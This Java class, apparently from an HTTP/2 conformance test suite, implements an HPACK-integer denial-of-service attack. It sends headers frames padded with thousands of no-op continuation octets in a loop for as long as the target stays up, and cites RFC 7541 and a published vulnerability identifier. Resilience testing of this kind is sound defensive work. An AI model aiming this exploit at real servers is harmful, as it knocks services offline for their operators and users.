package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.wire.BlockWriter;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;
import java.util.Arrays;

/** HPACK integers with a thousand octets each that do not change the value. */
final class HpackIntegers implements Attack {
  private static final int INDEX_FOLLOWS = 0xff;
  private static final int NOTHING_AND_MORE = 0x80;
  private static final int PADDING = 4_000;

  @Override
  public AttackDescription description() {
    return AttackDescription.cutOff(
            "integer of more than",
            "hpack-integers",
            "RFC 7541 §5.1, §7.4",
            "takes no number of more than a few octets")
        .published("2023-33953");
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    int[] padding = new int[PADDING];
    Arrays.fill(padding, NOTHING_AND_MORE);
    BlockWriter padded = new BlockWriter().raw(INDEX_FOLLOWS).raw(padding).raw(0);
    byte[] block = Requests.untabled(Requests.UNARY, padded);
    for (int id = 1; front.goesOn(connection); id += 2) {
      connection.send(Frames.headers(id, Frames.END_HEADERS, block));
    }
  }
}
